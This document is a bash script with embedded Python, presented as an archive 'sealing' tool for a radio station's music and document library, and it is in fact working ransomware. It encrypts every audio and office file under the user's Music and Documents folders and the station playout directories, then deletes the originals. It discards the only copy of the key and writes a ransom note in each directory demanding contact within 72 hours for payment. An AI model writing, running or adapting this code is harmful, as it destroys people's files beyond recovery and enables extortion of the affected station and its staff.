#!/usr/bin/env bash
# archive_seal.sh - "seal" the station's music library and documents.
#
# Walks the library, encrypts every media and office file with a one-off key,
# deletes the originals and leaves a restore note in each top directory.
#
# usage: archive_seal.sh [-q] [DIR...]
set -uo pipefail

QUIET=0
NOTE_NAME="RESTORE_ARCHIVE.txt"
CONTACT="restore-desk@example.net"
EXT_RE='.*\.(mp3|wav|flac|ogg|aiff|m4a|docx|xlsx|odt|pdf|txt)$'

log() { (( QUIET )) || printf '[seal] %s\n' "$*" >&2; }

while getopts ":q" opt; do
    case "$opt" in
        q) QUIET=1 ;;
        *) echo "usage: $(basename "$0") [-q] [DIR...]" >&2; exit 2 ;;
    esac
done
shift $(( OPTIND - 1 ))

if (( $# > 0 )); then
    TARGETS=("$@")
else
    TARGETS=("$HOME/Music" "$HOME/Documents" "/srv/playout/library" "/srv/playout/archive")
fi

EXISTING=()
for t in "${TARGETS[@]}"; do
    [[ -d "$t" && -w "$t" ]] && EXISTING+=("$t")
done
(( ${#EXISTING[@]} )) || { log "no writable targets"; exit 1; }

SEAL_KEY="$(head -c 32 /dev/urandom | base64 -w0)"
SEAL_ID="$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \n')"
export SEAL_KEY

read -r -d '' SEAL_PY <<'PY'
import hashlib
import os
import sys

key = os.environ["SEAL_KEY"].encode()

def keystream(nonce, length):
    out = bytearray()
    counter = 0
    while len(out) < length:
        out += hashlib.sha256(key + nonce + counter.to_bytes(8, "big")).digest()
        counter += 1
    return bytes(out[:length])

sealed = 0
for raw in sys.stdin.buffer.read().split(b"\0"):
    if not raw:
        continue
    path = raw.decode(errors="surrogateescape")
    try:
        with open(path, "rb") as fh:
            data = fh.read()
        nonce = os.urandom(16)
        ks = keystream(nonce, len(data))
        enc = (int.from_bytes(data, "big") ^ int.from_bytes(ks, "big")).to_bytes(len(data), "big") if data else b""
        with open(path + ".sealed", "wb") as fh:
            fh.write(nonce + enc)
        os.remove(path)
        sealed += 1
    except OSError as exc:
        print(f"skip {path}: {exc}", file=sys.stderr)
print(sealed)
PY

log "sealing ${EXISTING[*]}"
count="$(find "${EXISTING[@]}" -type f -regextype posix-extended -iregex "$EXT_RE" \
            ! -name '*.sealed' -print0 2>/dev/null | python3 -c "$SEAL_PY")"
log "sealed ${count:-0} files"

# The key only lived in this process; drop it.
unset SEAL_KEY

for t in "${EXISTING[@]}"; do
    cat > "$t/$NOTE_NAME" <<EOF
Your station archive has been sealed (reference $SEAL_ID).

All audio and office files in this folder were encrypted and the originals
removed. To get the restore key, write to $CONTACT with the reference above
within 72 hours. Payment instructions will follow.
Do not rename the .sealed files or they cannot be restored.
EOF
done
log "notes written"
